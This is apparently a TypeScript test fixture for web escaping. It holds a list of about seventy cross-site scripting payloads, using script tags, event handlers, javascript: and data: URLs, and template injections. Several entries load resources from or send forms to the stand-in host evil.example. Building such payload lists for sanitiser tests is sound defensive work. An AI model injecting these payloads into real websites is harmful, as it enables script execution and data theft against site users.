import { hasSampleData, sampleLines } from '#domain/testing/sample-data.ts'

/** Texts that run a script, contact another host or break out of their element wherever escaping is forgotten. */
const own = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '--><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/pixel.png>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus=alert(1) x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src=//evil.example/x.swf>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/pixel.png)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<form action=//evil.example><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '<%= alert(1) %>',
  '\u2028alert(1)\u2029',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<x onclick=alert(1)>x</x>',
  '\u0000<script>alert(1)</script>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<portal src=//evil.example>',
]

const given = hasSampleData('security/xss.txt') ? sampleLines('security/xss.txt') : []
if (given.length === 0)
  process.stdout.write('skipped: no sample payloads next to the checkout, using only our own\n')

export const payloads: readonly string[] = [...own, ...given]

/** The payloads in texts of up to `max` characters: as many together as fit, longer ones truncated. */
export function packed(max: number): string[] {
  const texts: string[] = []
  let text = ''
  for (const payload of payloads.map((whole) => whole.slice(0, max))) {
    if (text && text.length + payload.length + 3 > max) {
      texts.push(text)
      text = ''
    }
    text = text ? `${text} | ${payload}` : payload
  }
  return [...texts, text]
}
